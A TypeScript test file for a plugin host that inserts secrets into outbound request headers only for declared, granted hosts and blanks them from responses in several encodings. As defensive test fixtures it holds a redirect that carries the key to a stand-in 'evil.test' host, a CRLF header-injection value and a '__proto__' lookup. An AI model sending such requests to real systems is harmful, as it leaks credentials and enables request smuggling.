import { afterAll, describe, expect, test } from 'vitest'
import { Blanking } from './blanking.ts'
import { closeServers, scene, webServer } from './test-scene.ts'

afterAll(closeServers)
const name = 'api.example.test'
const secret = 'p4ss/w+rd="x" é&~'

async function echoing(secrets: Record<string, string>, more: Partial<Parameters<typeof scene>[0]> = {}) {
  const sent: (string | undefined)[] = []
  const port = await webServer((request, response) => {
    const key = request.headers['x-key']
    sent.push(String(key))
    const bytes = Buffer.from(String(key), 'latin1')
    if (request.url === '/spelt') response.end([bytes.toString('hex'), bytes.toString('base64'), encodeURIComponent(String(key)), JSON.stringify(String(key)), Buffer.from(`user:${String(key)}`).toString('base64')].join('\n'))
    else if (request.url === '/away') response.writeHead(302, { location: `https://${Buffer.from(String(key)).toString('hex')}.evil.test/${String(key)}` }).end()
    else response.writeHead(200, { 'x-echo': String(key) }).end(`before ${String(key)} after ${String(key)}`)
  })
  const all = scene({ granted: [`${name}:${port}`], privateHosts: name, secrets, ...more })
  const fetchWith = (header: string, path = '/', request: object = {}) => all.outbound.fetch(all.caller, `https://${name}:${port}${path}`, { headers: { 'x-key': header }, ...request })
  return { ...all, sent, fetchWith, port }
}

describe('a secret in a header', () => {
  test('is put in by the host, and taken out of what comes back', async () => {
    const { fetchWith, sent } = await echoing({ apiKey: 'hunter2hunter2' })
    expect(await fetchWith('Bearer {{secret.apiKey}}!')).toMatchObject({ body: 'before Bearer [secret]! after Bearer [secret]!', headers: { 'x-echo': 'Bearer [secret]!' } })
    expect(sent).toEqual(['Bearer hunter2hunter2!'])
    const base64 = await fetchWith('{{ secret.apiKey }}', '/', { responseType: 'base64' })
    expect(Buffer.from(base64.body, 'base64').toString()).toBe('before [secret] after [secret]')
  })

  test('is taken out as servers spell it when they repeat it', async () => {
    const { fetchWith } = await echoing({ apiKey: 'hunter2hunter2' })
    const { body } = await fetchWith('{{secret.apiKey}}', '/spelt')
    expect(body.split('\n').every((line) => line.includes('[secret]'))).toBe(true)
    expect(body.toLowerCase()).not.toMatch(/hunter2|68756e746572|aHVudGVyM/i)
  })

  test('is not told by a redirect: neither to the module nor to who reads refusals', async () => {
    const { fetchWith, refused } = await echoing({ apiKey: 'hunter2hunter2' })
    const error = await fetchWith('{{secret.apiKey}}', '/away').catch((reason: unknown) => reason)
    expect(error).toMatchObject({ code: 'capability-denied' })
    expect(`${String(error)}${JSON.stringify([error, refused])}`).not.toMatch(/hunter2|68756e7465/)
  })

  test('with letters beyond ASCII is taken out of headers and of text', async () => {
    const { fetchWith } = await echoing({ apiKey: 'clé-secrète' })
    const { body, headers } = await fetchWith('{{secret.apiKey}}')
    expect(`${body}${headers['x-echo']}`).toBe('before [secret] after [secret][secret]')
  })

  test('that has the form of a template is sent as it is', async () => {
    const { fetchWith, sent } = await echoing({ one: '{{secret.two}}', two: 'never sent' })
    await fetchWith('{{secret.one}}')
    expect(sent).toEqual(['{{secret.two}}'])
  })

  test('goes only to the hosts it is declared for, and the refusal is told', async () => {
    const { fetchWith, sent, refused, port } = await echoing({ apiKey: 'x' }, { declared: [{ name: 'apiKey', reason: '', required: true, hosts: ['other.example.test', '*.api.example.test'] }] })
    await expect(fetchWith('{{secret.apiKey}}')).rejects.toMatchObject({ code: 'capability-denied' })
    expect(sent).toEqual([])
    expect(refused).toEqual([{ capability: 'http.fetch', detail: `${name}:${port}` }])
  })

  test('must be declared, set, and fit into a header', async () => {
    const { fetchWith, sent } = await echoing({ lines: 'a\r\nx-injected: 1', unicode: 'ключ' }, { declared: ['lines', 'unicode', 'unset'].map((one) => ({ name: one, reason: '', required: true })) })
    await expect(fetchWith('{{secret.other}}')).rejects.toMatchObject({ code: 'plugin-failed' })
    await expect(fetchWith('{{secret.__proto__}}')).rejects.toMatchObject({ code: 'plugin-failed' })
    await expect(fetchWith('{{secret.unset}}')).rejects.toMatchObject({ code: 'secret-missing' })
    for (const one of ['lines', 'unicode']) {
      const error = await fetchWith(`{{secret.${one}}}`).catch((reason: unknown) => reason)
      expect(error).toMatchObject({ code: 'fetch-failed' })
      expect(String(error)).not.toMatch(/injected|ключ/)
    }
    expect(sent).toEqual([])
  })

  test('is looked up only once the host is known to be granted', async () => {
    const { outbound, caller } = scene({ granted: [], declared: [{ name: 'apiKey', reason: '', required: true }] })
    await expect(outbound.fetch(caller, 'https://evil.test/', { headers: { 'x-key': '{{secret.apiKey}}' } })).rejects.toMatchObject({ code: 'capability-denied' })
  })

  test('is no template in a URL, a body or a name', async () => {
    const bodies: string[] = []
    const port = await webServer((request, response) => {
      bodies.push(decodeURIComponent(request.url ?? ''))
      request.on('data', (chunk: Buffer) => bodies.push(chunk.toString())).on('end', () => response.end())
    })
    const { outbound, caller } = scene({ granted: [`${name}:${port}`], privateHosts: name, secrets: { apiKey: 'hunter2' } })
    await outbound.fetch(caller, `https://${name}:${port}/{{secret.apiKey}}`, { method: 'POST', body: '{{secret.apiKey}}' })
    expect(bodies).toEqual(['/{{secret.apiKey}}', '{{secret.apiKey}}'])
  })
})

describe('blanking', () => {
  const blanking = new Blanking([secret, 'short', 'a\nb'])
  test('finds a secret as text, hexadecimal, base64, percent-encoded and in JSON', () => {
    const bytes = Buffer.from(secret)
    for (const spelt of [secret, bytes.toString('hex'), bytes.toString('hex').toUpperCase(), bytes.toString('base64'), bytes.toString('base64url'), encodeURIComponent(secret), JSON.stringify(secret)]) {
      expect(blanking.text(`<${spelt}>`)).toMatch(/^<"?\[secret\]"?>$/)
    }
  })

  test.each([0, 1, 2, 3, 4])('finds it in the base64 of a text that holds it %i bytes in', (offset) => {
    const text = Buffer.from(`${'x'.repeat(offset)}${secret}yyy`).toString('base64')
    const shown = blanking.text(text)
    expect(shown).toContain('[secret]')
    expect(Buffer.from(shown.replace('[secret]', ''), 'base64').toString('latin1')).not.toContain('w+rd')
  })

  test('leaves other text as it is, whatever its letters and bytes', () => {
    const text = 'Grüße, ﬁ ſ K İ ß 日本 \ud83d\ude00 shor t'
    expect(blanking.text(text)).toBe(text)
    const bytes = Buffer.from(Array.from({ length: 256 }, (_, byte) => byte)).toString('latin1')
    expect(new Blanking(['unrelated']).bytes(bytes)).toBe(bytes)
  })

  test('takes out every one of many, quickly, in half a megabyte', () => {
    const text = 'short '.repeat(80_000)
    expect(blanking.bytes(text)).toBe('[secret] '.repeat(80_000))
  })
})
